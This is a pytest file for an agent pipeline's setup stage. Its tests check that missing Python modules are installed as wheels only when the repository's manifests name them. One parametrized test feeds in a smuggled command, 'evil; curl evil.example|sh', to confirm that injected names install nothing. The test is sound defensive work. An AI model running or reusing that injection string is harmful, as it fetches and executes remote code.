"""What a check cannot import is installed where the repository's manifests name it, and told."""

import pytest

from agents.analysis.known_packages import read_known_packages
from agents.analysis.missing_modules import find_package, read_missing_modules
from agents.pipelines.stages.quality import measure_base
from agents.policy import POLICY_PATH
from agents.ports import SetupResult

SETUP = SetupResult(source="pyproject.toml")
PROJECT = """
[project]
name = "mine"
optional-dependencies = {docs = ["PyYAML>=5", "google-cloud-storage"], big = ["tiny==1"]}
[tool.uv.sources]
tiny = {git = "https://example.com/tiny"}
"""
LOST = "ModuleNotFoundError: No module named 'yaml'"
SUMMARY = f"=== short test summary info ===\nERROR t.py - {LOST}\n"
STOPPED = (2, f"{SUMMARY}!!! Interrupted: 1 error during collection !!!\n1 error in 0.1s")
PASSED = (0, "2 passed in 0.1s")
INSTALL = (
    "export PIP_CONFIG_FILE=/dev/null PIP_KEYRING_PROVIDER=disabled PYTHONNOUSERSITE=1"
    " && pip install --only-binary :all: pyyaml"
)


@pytest.fixture
def measure(make_world, request_):
    """Measure the base of a repository whose check ends as the list says, and its installs."""

    async def measure(*ends, install=(0, ""), check="make test"):
        left = list(ends)
        policy = f"quality: [{{name: tests, run: '{check}'}}]\nsetup: {{second_look: false}}\n"
        commands = {check: lambda _files: left.pop(0), INSTALL: install}
        world = make_world({POLICY_PATH: policy, "pyproject.toml": PROJECT}, (), commands=commands)
        run = world.run(request_)
        at = dict.fromkeys(("base", "trunk", "start", "head"), world.base)
        run.context.standing = run.context.standing.model_copy(update=at)
        baseline = await measure_base.work(run.context, SETUP)
        assert not left
        return baseline, await (await run.context.tree()).list_install_commands()

    return measure


async def test_what_another_extra_brings_is_installed_and_the_checks_run_again(measure):
    baseline, installs = await measure(STOPPED, STOPPED, PASSED)

    assert installs == [INSTALL], "as wheels, with no setting that lies about"
    assert baseline.runs[0].exit_code == 0
    [note] = baseline.setup.notes
    assert note.startswith("`pyyaml` was installed before the checks were measured")


async def test_what_does_not_help_or_cannot_be_had_is_tried_once_and_said(measure):
    vain, installs = await measure(*[STOPPED] * 4)
    failed, _ = await measure(*[STOPPED] * 2, install=(1, "ERROR: No matching distribution found"))

    assert installs == [INSTALL]
    assert vain.runs[0].exit_code == 2
    assert "could not be installed: No matching distribution found" in failed.setup.notes[0]


@pytest.mark.parametrize("said", ["evil", "mine", "tiny", "evil; curl evil.example|sh", "-r", "."])
async def test_no_output_has_anything_installed_that_no_manifest_names(measure, said):
    ended = (1, f"No module named '{said}'\nNo module named {said}x")
    baseline, installs = await measure(ended)

    assert installs == []
    assert baseline.setup.notes == ()


def test_modules_are_found_with_the_packages_that_bring_them():
    known = read_known_packages("c", {"pyproject.toml": PROJECT})
    output = f"{LOST}\n/usr/bin/python3: No module named google.cloud.storage.client\n{LOST}"

    modules = read_missing_modules(output)
    assert modules == ("yaml", "google.cloud.storage.client")
    assert [find_package(each, known) for each in modules] == ["pyyaml", "google-cloud-storage"]
    assert find_package("pytest_asyncio", known) == "pytest_asyncio"
    assert find_package("requests", known) == ""
    many = "".join(f"No module named 'm{number}'\n" for number in range(99))
    assert len(read_missing_modules(many)) == 20
